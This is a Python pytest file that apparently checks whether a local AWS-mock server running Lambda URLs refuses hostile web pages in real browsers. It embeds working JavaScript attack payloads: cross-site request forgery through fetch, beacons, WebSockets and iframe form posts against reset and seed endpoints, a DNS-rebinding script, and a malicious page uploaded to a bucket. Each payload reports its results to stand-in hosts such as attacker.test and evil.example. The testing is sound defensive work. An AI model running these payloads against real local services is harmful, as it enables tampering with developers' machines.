"""What hostile web pages do to a server, in real browsers that leave the refusing to it."""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import requests
from moto.s3.models import s3_backends
from support.attacker import BROWSERS, report_of, reports_nothing, site, visiting
from support.forged import STACK, USERINFO
from support.server_functions import make_client

from moto_lambda_urls import LambdaUrlsServer
from moto_lambda_urls.server.guard import Guard
from moto_lambda_urls.server.proxy import running_proxy

pytestmark = [pytest.mark.in_process, pytest.mark.parametrize("browser", BROWSERS)]

ACCOUNT = "123456789012"
SIGNATURE = "AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/{}/aws4_request, SignedHeaders=host, Signature=0"
PRESIGNED = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=a&X-Amz-Signature=b"
TRY = """
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const got = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    got[name] = answer.type === "opaque" ? "opaque" : answer.status;
  } catch (error) { got[name] = "error"; }
}
const report = () => fetch(REPORT, { method: "POST", mode: "no-cors", body: JSON.stringify(got) });
"""
FOREIGN = """
(async () => {
  for (const at of TARGETS) {
    const simple = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" };
    const form = { ...simple, headers: { "Content-Type": "application/x-www-form-urlencoded" } };
    for (const path of PATHS) {
      await attempt(`GET ${at}${path}`, at + path, { mode: "no-cors" });
      await attempt(`HEAD ${at}${path}`, at + path, { mode: "no-cors", method: "HEAD" });
      await attempt(`POST ${at}${path}`, at + path, simple);
      await attempt(`no referrer ${at}${path}`, at + path, { ...simple, referrerPolicy: "no-referrer" });
      await attempt(`read ${at}${path}`, at + path, {});
    }
    await attempt(`form ${at}`, at + "/", { ...form, body: "Action=CreateTopic&Name=t&Version=2010-03-31" });
    await attempt(`signed ${at}`, at + "/", { ...form, mode: "cors", headers: { authorization: SIGNED } });
    await attempt(`target ${at}`, at + "/", { method: "POST", headers: { "x-amz-target": "DynamoDB_20120810.A" } });
    await attempt(`put ${at}`, at + "/bucket", { method: "PUT" });
    navigator.sendBeacon(at + "/?" + STACK, "x");
    new WebSocket(at.replace("http", "ws") + "/?" + STACK);
    new EventSource(at + "/?" + STACK);
    new Image().src = at.replace("//", `//${USERINFO}@`) + "/?" + STACK;
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = `<form method=post enctype=multipart/form-data action="${at}/bucket"><input name=key value=k></form>
      <script>fetch("${at}/?${STACK}", { method: "POST", mode: "no-cors" }); document.forms[0].submit();</` + `script>`;
    document.body.append(frame);
  }
  await wait(1500);
  report();
})();
"""
PATHS = [
    "/moto-api/reset",
    "/moto-api/seed?a=1",
    "/moto-api/recorder/replay-recording",
    "/lambda_us-east-1/functions",
    "/cloudformation_us-east-1/cfnresponse?" + STACK,
    f"/?{STACK}",
    f"/?{STACK.replace('Action', '%41ction')}",
    f"/?{STACK.replace('Action', 'ACTION')}",
    f"/bucket/presigned?delete&{PRESIGNED}",
    "/bucket",
    "/_aws/lambda-url/-/state",
    "/_aws/lambda-url/-/send",
]


def script(body: str, report: str, **values: Any) -> str:
    """``body`` with its names in capitals replaced by JSON."""
    text = TRY + body
    for name, value in {"REPORT": f"{report}/report", **values}.items():
        text = re.sub(rf"\b{name}\b", lambda _: json.dumps(value), text)  # noqa: B023 - called at once
    return text


@pytest.fixture(params=["127.0.0.1", "0.0.0.0", "::1"])
def server(request: pytest.FixtureRequest) -> Iterator[LambdaUrlsServer]:
    with LambdaUrlsServer(host=request.param) as running:
        s3_backends[ACCOUNT]["aws"].create_bucket("bucket", "us-east-1")  # not by a request, which would be logged
        yield running


NAMES_OF = {
    "127.0.0.1": ("127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0.0.0.0", "2130706433"),
    "::1": ("[::1]", "[0:0:0:0:0:0:0:1]", "localhost"),
}
"""Names by which a page reaches a server, by the address that it is at."""


def address_of(server: LambdaUrlsServer) -> tuple[str, int]:
    asked = urlsplit(server.endpoint_url)
    assert asked.hostname is not None
    assert asked.port is not None
    return asked.hostname, asked.port


def refused(caplog: pytest.LogCaptureFixture) -> list[str]:
    """The requests that the server has answered, each with 403, but for links to objects, which no page can read."""
    lines = [record.getMessage() for record in caplog.records if re.search(r" \d\d\d \d+ ms$", record.getMessage())]
    links = re.compile(r"(?:GET|HEAD) /bucket/presigned 404 \d+ ms|.* 403 \d+ ms")
    assert [line for line in lines if not links.fullmatch(line)] == []
    return lines


def is_untouched(server: LambdaUrlsServer) -> bool:
    return (
        make_client(server).list_functions()["Functions"] == []
        and make_client(server, "cloudformation").list_stacks()["StackSummaries"] == []
        and make_client(server, "sns").list_topics()["Topics"] == []
        and "Contents" not in make_client(server, "s3").list_objects_v2(Bucket="bucket")
    )


def test_page_of_another_site(
    browser: str, server: LambdaUrlsServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    host, port = address_of(server)
    at = [f"http://{name}:{port}" for name in NAMES_OF[host]]
    words = {"TARGETS": at, "PATHS": PATHS, "SIGNED": SIGNATURE.format("sns"), "STACK": STACK, "USERINFO": USERINFO}
    with site() as attacker, caplog.at_level(logging.INFO, "moto_lambda_urls"):
        own = attacker.url("attacker.test")
        attacker.runs(script(FOREIGN, own, **words))
        with visiting(browser, f"{own}/attack", tmp_path / "profile"):
            got = report_of(attacker)
    assert set(got.values()) <= {"error", "opaque"}
    assert len(refused(caplog)) > len(PATHS) * 6
    assert is_untouched(server)


REBOUND = """
(async () => {
  const hidden = { "User-Agent": "curl/8", "Accept-Language": "", "Accept": "*/*" };
  for (const path of PATHS) {
    for (const headers of [{}, hidden, { ...hidden, authorization: SIGNED }, { ...hidden, "x-amz-target": "A_1.B" }]) {
      for (const method of ["GET", "HEAD", "POST", "PUT"]) {
        const options = { method, headers, referrerPolicy: "no-referrer" };
        await attempt(`${method} ${path} ${Object.keys(headers)}`, path, options);
      }
    }
  }
  const socket = new WebSocket(location.origin.replace("http", "ws") + PATHS[0]);
  got.WebSocket = await new Promise((done) => { socket.onopen = () => done(101); socket.onerror = () => done(403); });
  report();
})();
"""


def test_rebound_name(browser: str, server: LambdaUrlsServer, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with site(relay_to=address_of(server)) as attacker, caplog.at_level(logging.INFO, "moto_lambda_urls"):
        own = attacker.url("evil.example")
        attacker.runs(script(REBOUND, own, PATHS=PATHS, SIGNED=SIGNATURE.format("cloudformation")))
        with visiting(browser, f"{own}/attack", tmp_path / "profile"):
            got = report_of(attacker)
    assert set(got.values()) == {403}
    assert len(refused(caplog)) >= len(got)
    assert is_untouched(server)


UPLOADED = """
<!doctype html><body><img src="{report}-of-the-image"><script>
fetch("/?{stack}", {{ method: "POST", headers: {{ authorization: "{signed}" }} }});
fetch("{report}-of-the-script", {{ method: "POST", mode: "no-cors" }});
</script>
"""


def test_page_in_a_bucket(browser: str, server: LambdaUrlsServer, tmp_path: Path) -> None:
    with site() as attacker:
        report = f"{attacker.url('attacker.test')}/report"
        page = UPLOADED.format(report=report, stack=STACK, signed=SIGNATURE.format("cloudformation"))
        make_client(server, "s3").put_object(
            Bucket="bucket", Key="page.html", Body=page.encode(), ContentType="text/html", ACL="public-read"
        )
        query = f"?{PRESIGNED}&response-content-security-policy={quote('sandbox allow-scripts')}"
        with visiting(browser, f"{server.endpoint_url}/bucket/page.html{query}", tmp_path / "profile"):
            assert report_of(attacker) == "/report-of-the-image"
            assert reports_nothing(attacker, 1)
    assert make_client(server, "cloudformation").list_stacks()["StackSummaries"] == []


PROXIED = """
(async () => {
  for (const path of PATHS) {
    await attempt(`GET ${path}`, AT + path, { mode: "no-cors" });
    await attempt(`POST ${path}`, AT + path, { method: "POST", mode: "no-cors", body: "{}" });
    await attempt(`signed ${path}`, AT + path, { method: "POST", headers: { authorization: SIGNED } });
  }
  report();
})();
"""


def test_name_that_begins_like_lambdas(browser: str, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with (
        running_proxy(host="127.0.0.1", port=0, authorization="standard", guard=Guard()) as proxy,
        site() as attacker,
    ):
        own, port = attacker.url("attacker.test"), urlsplit(proxy.url).port
        values = {
            "AT": f"http://lambda.us-east-1.amazonaws.com.attacker.test:{port}",
            "PATHS": ["/2015-03-31/functions", "/2015-03-31/functions/f/code"],
            "SIGNED": SIGNATURE.format("lambda"),
        }
        attacker.runs(script(PROXIED, own, **values))
        with visiting(browser, f"{own}/attack", tmp_path / "profile"):
            got = report_of(attacker)
        assert set(got.values()) <= {"error", "opaque"}
        assert sum(" refused: " in record.getMessage() for record in caplog.records) >= 6
        functions = "http://lambda.us-east-1.amazonaws.com/2015-03-31/functions"
        listed = requests.get(
            functions, headers={"Authorization": SIGNATURE.format("lambda")}, proxies={"http": proxy.url}
        )
        assert listed.json()["Functions"] == []
